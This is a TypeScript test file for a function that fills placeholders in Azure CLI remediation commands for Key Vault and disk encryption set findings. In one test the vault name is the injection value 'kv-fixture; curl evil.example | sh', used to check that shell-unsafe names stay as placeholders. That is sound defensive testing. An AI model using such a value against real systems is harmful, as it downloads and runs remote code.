import { describe, expect, it } from 'vitest';
import { normalize } from '../estate/normalize';
import { ruleById } from './catalog';
import { filledCommand } from './commands';
import { DES, KV, PRINCIPAL, V_CUR, healthy, run } from './fixtures';

const cli = (ruleId: string) => ruleById(ruleId)!.remediation.cli;

function judged(bend: (f: ReturnType<typeof healthy>) => void) {
  const f = healthy();
  bend(f);
  const evaluation = run(f);
  return { f, evaluation, estate: normalize(f.file) };
}

describe('filledCommand', () => {
  it("fills a missing grant's command with the DES identity, the vault id and the vault name", () => {
    const { f, evaluation, estate } = judged((f) => f.remove(f.grant.id));
    const finding = evaluation.findings.find((x) => x.ruleId === 'LS-DES-003')!;
    expect(finding).toBeDefined();
    const command = filledCommand(cli('LS-DES-003'), finding, evaluation, estate);
    expect(command).toContain(`--assignee-object-id ${PRINCIPAL} --assignee-principal-type ServicePrincipal --scope ${KV}`);
    expect(command).toContain(`az keyvault set-policy --name kv-fixture --object-id ${PRINCIPAL}`);
    expect(command).not.toMatch(/<[a-z-]+>/);
    expect(f.des.id).toBe(DES);
  });

  it("names the group of the resource the command acts on: the vault's for a vault command", () => {
    const { evaluation, estate } = judged((f) => {
      f.vault.properties.enablePurgeProtection = false;
    });
    const finding = evaluation.findings.find((x) => x.ruleId === 'LS-KV-002')!;
    expect(filledCommand(cli('LS-KV-002'), finding, evaluation, estate)).toBe(
      'az keyvault update --name kv-fixture --resource-group rg-keys --enable-purge-protection true',
    );
  });

  it("puts the key's current version into a DES command that needs a versioned key URL", () => {
    const { evaluation, estate } = judged(() => undefined);
    const command = filledCommand(
      'az disk-encryption-set update --name <des> --resource-group <rg> --key-url <current-versioned-key-url>',
      { resourceId: DES },
      evaluation,
      estate,
    );
    expect(command).toBe(
      `az disk-encryption-set update --name des-fixture --resource-group rg-keys --key-url https://kv-fixture.vault.azure.net/keys/disk-key/${V_CUR}`,
    );
  });

  it('keeps the placeholder for what it does not know, and for a name a shell could read as more than a word', () => {
    const { evaluation, estate } = judged((f) => {
      f.vault.properties.enablePurgeProtection = false;
      f.vault.name = 'kv-fixture; curl evil.example | sh';
    });
    const finding = evaluation.findings.find((x) => x.ruleId === 'LS-KV-002')!;
    expect(filledCommand(cli('LS-KV-002'), finding, evaluation, estate)).toBe(
      'az keyvault update --name <vault> --resource-group rg-keys --enable-purge-protection true',
    );
    expect(filledCommand('az thing --tenant <key-tenant>', finding, evaluation, estate)).toBe('az thing --tenant <key-tenant>');
  });

  it('fills a server finding from the one DES its disks name', () => {
    const { f, evaluation, estate } = judged(() => undefined);
    expect(filledCommand('az disk-encryption-set show --name <des> --resource-group <rg>', { resourceId: f.item.id as string }, evaluation, estate)).toBe(
      'az disk-encryption-set show --name des-fixture --resource-group rg-keys',
    );
  });
});
